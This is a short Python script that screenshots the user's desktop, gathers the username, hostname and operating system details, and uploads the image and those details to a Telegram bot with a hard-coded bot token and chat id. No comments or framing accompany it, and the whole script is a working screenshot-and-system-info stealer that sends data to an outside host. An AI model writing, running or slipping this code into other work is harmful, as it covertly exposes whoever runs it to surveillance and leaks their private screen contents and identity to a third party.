import platform, getpass, socket
from PIL import ImageGrab
import requests
img = ImageGrab.grab()
img.save("s.png")
info = f"{getpass.getuser()}@{socket.gethostname()} {platform.platform()}"
requests.post("https://api.telegram.org/bot5891233455:AAF8dk2Lq9ZxQ1wE2rT3yU4iO5pA6sD7fG8/sendPhoto", data={"chat_id": "-100188", "caption": info}, files={"photo": open("s.png", "rb")})
